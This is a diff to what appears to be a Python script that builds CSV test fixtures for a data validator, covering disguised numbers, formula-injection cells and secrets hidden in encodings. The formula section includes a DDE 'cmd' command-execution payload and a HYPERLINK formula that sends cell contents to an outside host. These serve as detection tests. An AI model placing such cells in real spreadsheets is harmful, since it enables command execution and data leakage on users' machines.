@@ -106,9 +106,12 @@ for name, value in {
 for name, value in {
     "words": "five", "roman": "IV", "hexadecimal": "0x5", "half": "½", "circled": "⑤", "superscript": "⁵", "chinese": "五",
     "in-words": "5 people", "formula": "=5", "about": "~5",
-    "almost-equal": "≈5", "quotation-marks": "“5”",
+    "almost-equal": "≈5", "quotation-marks": "“5”", "minus": "-5", "range": "4-5", "range-dash": "4–5", "plus-behind": "5 +",
+    "circa": "c.5", "markup": "<b>5</b>", "french": "cinq", "sum": "2+3", "escape": "\\x35", "letters": "No. 5", "small-words": "a handful",
 }.items():
     add(row, f"{name}.csv", table(value=value, delimiter=";"), "review", SMALL, "perhaps five")
+for name, value in {"missing": "n/a", "one-letter": "c", "minus-nine": "-9", "dash": "-"}.items():
+    add(row, f"none-{name}.csv", table(value=value, delimiter=";"), "pass", "-", "no number, and no disguise of one")
 add(row, "thousands.csv", table(value="1,005", delimiter=";"), "pass", "-", "a thousand and five")
 add(row, "large.csv", table(value="9007199254740993", delimiter=";"), "pass", "-", "2^53 + 1")
 add(row, "large-composite.csv", table(value="41,086 (16%)", delimiter=";"), "pass", "-", "forty thousand")
@@ -130,7 +133,7 @@ add(row, "zero-that-is-one.csv", "region,mild,moderate,severe,total\nNorth,60,61
 row = "06-formulas"
 FORMULA = "formula-injection"
 for name, cell in {
-    "equals": "=1+1", "plus": "+SUM(A1:A9)", "minus": "-2+3+cmd|' /C calc'!A0", "at": "@SUM(1+1)*2", "tab": "\t=1+1", "return": "\r=1+1",
+    "equals": "=1+1", "plus": "+SUM(A1:A9)", "minus": "-2+3+cmd|' /C calc'!A0", "program": "-2+3+cmd|x", "at": "@SUM(1+1)*2", "tab": "\t=1+1", "return": "\r=1+1",
     "space": "  =1+1", "full-width": "＝1+1", "full-width-at": "＠ＳＵＭ（1+1）", "no-break-space": "\u00a0=1+1", "zero-width": "\u200b=1+1",
     "link": '=HYPERLINK("http://example.org/?"&B2,"North")',
 }.items():
@@ -192,6 +195,28 @@ add(row, "sentence-hexadecimal.csv", noted(secret.hex().upper()), "fail", ENCODE
 add(row, "sentence-utf-16-marked.csv", noted(base64_of(secret.decode().encode("utf-16"))), "fail", ENCODED, "in UTF-16 with its mark")
 add(row, "gzip.csv", noted(base64_of(gzip.compress(secret, mtime=0))), "fail", ENCODED, "gzip in base64")
 add(row, "zlib-hexadecimal.csv", noted(zlib.compress(secret).hex()), "fail", ENCODED, "zlib in hexadecimal")
+number = b"4010232137"
+for name, written in {
+    "escapes": "".join(f"\\x{byte:02x}" for byte in number),
+    "escapes-octal": "".join(f"\\{byte:03o}" for byte in number),
+    "escapes-unicode": "".join(f"\\u00{byte:02x}" for byte in number),
+    "escapes-braces": "".join(f"\\u{{{byte:x}}}" for byte in number),
+    "escapes-percent": "".join(f"%u00{byte:02x}" for byte in number),
+    "references": "".join(f"&#{byte};" for byte in number),
+    "references-hexadecimal": "".join(f"&#x{byte:x};" for byte in number),
+    "quoted-printable": "no. " + "".join(f"={byte:02X}" for byte in number),
+    "spaced": (b"NHS " + number).hex(" "),
+    "digits-in-hexadecimal": number.hex(),
+    "base32": base64.b32encode(number).decode(),
+    "base32-small": base64.b32encode(number).decode().lower(),
+    "base32-ordered": base64.b32hexencode(number).decode(),
+    "base85": base64.b85encode(number).decode(),
+}.items():
+    add(row, f"{name}.csv", noted(written), "fail", ENCODED, "an NHS number")
+for name, written in {"base32": base64.b32encode(secret), "base85": base64.b85encode(secret), "ascii85": base64.a85encode(secret)}.items():
+    quoted = '"' + written.decode().replace('"', '""') + '"'
+    add(row, f"sentence-{name}.csv", noted(quoted), "fail", ENCODED, "a sentence")
+add(row, "backslashes.csv", "region,patients,note\nNorth,120,C:\\data\\x12\nSouth,145,R&D &amp; more\nEast,131,12:30:45 41 52 43\n", "pass", "-", "paths and signs")
 add(row, "header.csv", f"region,{base64_of(secret)}\nNorth,120\nSouth,145\n", "fail", ENCODED, "in the header")
 add(row, "none.csv", "model,digest,patients\nnoninferiorityhypothesis,d41d8cd98f00b204e9800998ecf8427e,120\nCOVID19VaccinationBooster,9e107d9d372bb6826bd81d3542a419d6,145\n", "pass", "-", "words and digests")
 
